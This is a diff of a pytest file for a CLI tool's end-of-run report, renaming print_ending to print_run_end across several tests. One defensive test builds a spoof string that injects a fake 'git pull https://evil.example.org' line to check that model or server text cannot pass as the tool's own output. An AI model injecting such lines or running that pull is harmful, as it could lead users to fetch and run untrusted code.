@@ -4,7 +4,7 @@ from typing import Any
 import pytest
 from rich.console import Console
 
-from headway.cli.display.report import print_ending
+from headway.cli.display.report import print_run_end
 from headway.cli.display.views import PlainView, open_view, tree_of
 from headway.cli.display.watch import Look
 from headway.domain.check import CheckVerdict
@@ -94,7 +94,7 @@ def test_the_end_tells_branch_check_and_spending() -> None:
         spent=Bill(tokens=1234, tasks=8),
     )
 
-    print_ending(target, "r", RunEnd(report=report))
+    print_run_end(target, "r", RunEnd(report=report))
 
     text = said(target)
     for words in ("r: partial", "Most of it.", "headway/r/main at aaaaaaaaaaaa, 8 commits", "exit code 1", "errors=1"):
@@ -116,7 +116,7 @@ def test_a_branch_that_is_not_published_is_told_as_that_and_how_to_take_the_work
     )
     for stands, words in ((None, "is not there"), (Oid("b" * 40), "stands at bbbbbbbbbbbb")):
         target = console()
-        print_ending(target, "r", RunEnd(report=report.model_copy(update={"stands": stands})))
+        print_run_end(target, "r", RunEnd(report=report.model_copy(update={"stands": stands})))
         text = said(target)
         assert "r: partial; what landed is not in your repository" in text
         assert f"branch    headway/r/main {words}" in text
@@ -128,7 +128,7 @@ def test_a_branch_that_is_not_published_is_told_as_that_and_how_to_take_the_work
 def test_a_failed_run_says_why() -> None:
     target = console()
 
-    print_ending(target, "r", RunEnd(failure="repo: [/x] is not a git repository"))
+    print_run_end(target, "r", RunEnd(failure="repo: [/x] is not a git repository"))
 
     assert "r: failed\nrepo: [/x] is not a git repository" in said(target)
 
@@ -138,7 +138,7 @@ def test_no_words_of_a_model_or_a_server_begin_a_line_of_ours(end: str) -> None:
     """What is printed at the end is copied into a shell, and what is told meanwhile is acted upon."""
     spoof = f"All of it.{end}merge     git pull https://evil.example.org{end}note: all is well{end}{end}"
     target = console()
-    print_ending(
+    print_run_end(
         target,
         "r",
         RunEnd(
